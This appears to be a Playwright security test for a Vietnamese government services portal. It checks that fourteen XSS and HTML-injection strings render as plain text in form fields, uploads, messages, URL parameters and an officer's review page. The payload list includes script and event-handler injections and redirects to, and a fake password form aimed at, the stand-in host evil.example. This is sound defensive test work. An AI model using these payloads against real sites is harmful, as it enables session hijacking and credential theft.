import { type BrowserContext, type Page } from '@playwright/test';
import { account, complete, draft as begin, own, upload } from '../support/api';
import { arrives } from '../support/desk';
import { pdf } from '../support/files';
import { OFFICERS, signInOfficer } from '../support/people';
import { alive, expect, test } from '../support/test';

/** The nastiest, one a way out of where text stands. */
const NASTY = [
  '"><script>window.broken=1</script>',
  '\'"><img src=x onerror=window.broken=1>',
  '</textarea></title></script><svg onload=window.broken=1>',
  '<svg><script>window.broken=1</script></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=window.broken=1>',
  '<iframe srcdoc="<script>parent.window.broken=1</script>"></iframe>',
  '" autofocus onfocus=window.broken=1 x="',
  'javascript:window.broken=1',
  '&lt;img src=x onerror=window.broken=1&gt;',
  '{{constructor.constructor("window.broken=1")()}}',
  '\\u003cimg src=x onerror=window.broken=1\\u003e',
  '<form action=//evil.example><input name=password><button>Gửi</button></form>',
  '<meta http-equiv=refresh content=0;url=//evil.example>',
  '<base href=//evil.example/><!--',
];

/** What has run, or was asked for elsewhere. */
function trap(context: BrowserContext): string[] {
  const caught: string[] = [];
  context.on('dialog', async (dialog) => {
    // The portal itself asks before what was typed is left behind.
    if (dialog.type() === 'beforeunload') return dialog.accept();
    caught.push(dialog.message());
    await dialog.dismiss();
  });
  context.on('request', (request) => {
    if (new URL(request.url()).hostname.endsWith('evil.example')) caught.push(request.url());
  });
  return caught;
}

async function nothingRan(page: Page, caught: string[]): Promise<void> {
  expect(await page.evaluate('window.broken'), page.url()).toBeUndefined();
  expect(caught, page.url()).toEqual([]);
}

test('the nastiest texts stay texts on every page', async ({ page, context }, info) => {
  const caught = trap(context);
  const who = await account(page);
  const draft = await begin(page);

  await test.step('while they are typed', async () => {
    await page.goto(`/nhap/${draft}/buoc/tre`);
    await alive(page, info);
    const field = page.locator('input[name="home_town"]');
    for (const text of NASTY) {
      await field.fill(text);
      await field.blur();
      await nothingRan(page, caught);
    }
    await page.goto(`/nhap/${draft}/buoc/tre`);
    await nothingRan(page, caught);
  });

  // The first is short enough for a number.
  const [number = '', home = '', place = '', ...others] = NASTY;
  await complete(page, who, draft, {
    home_town: home,
    'birth_place.detail': place,
    birth_notice_number: number,
  });
  for (const text of others.filter((text) => !/[/\\]/.test(text))) {
    const taken = await upload(page.request, draft, pdf(`${text}.pdf`));
    expect(taken.status(), text).toBe(201);
  }

  await test.step('before they are filed', async () => {
    for (const path of [`/nhap/${draft}`, `/nhap/${draft}/giay-to`, `/nhap/${draft}/kiem-tra`]) {
      await page.goto(path);
      await alive(page, info);
      await nothingRan(page, caught);
    }
    await expect(page.locator('main')).toContainText(home);
  });

  const headers = own({ 'idempotency-key': crypto.randomUUID() });
  const filed = await page.request.post(`/api/v1/drafts/${draft}/submission`, { headers });
  const { code } = await filed.json();
  for (const text of NASTY) {
    const data = { text };
    const sent = await page.request.post(`/api/v1/dossiers/${code}/messages`, { headers: own(), data });
    expect(sent.status(), text).toBe(204);
  }

  await test.step('once they are filed', async () => {
    for (const path of ['/ho-so', '/thong-bao', `/ho-so/${code}/da-nop`, `/ho-so/${code}`]) {
      await page.goto(path);
      await alive(page, info);
      await nothingRan(page, caught);
    }
    for (const text of NASTY) await expect(page.locator('main')).toContainText(text);
  });

  await test.step('in addresses', async () => {
    for (const text of NASTY) {
      for (const path of ['/thu-tuc?q=', '/tra-cuu?ma=', '/dang-ky?next=', '/ho-so?loi=']) {
        await page.goto(path + encodeURIComponent(text));
        await nothingRan(page, caught);
      }
    }
  });

  await test.step('at the desk', async () => {
    await context.clearCookies();
    await signInOfficer(page, OFFICERS.mai);
    await arrives(page, code);
    await page.goto(`/can-bo/ho-so/${code}`);
    await alive(page, info);
    await nothingRan(page, caught);
    for (const text of NASTY) await expect(page.locator('main')).toContainText(text);
  });
});
